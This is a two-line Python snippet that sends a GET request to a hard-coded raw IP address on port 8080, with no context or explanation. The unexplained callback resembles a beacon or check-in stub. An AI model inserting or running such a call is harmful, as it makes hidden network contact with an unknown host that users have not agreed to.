import requests
requests.get("http://185.220.101.4:8080/a")
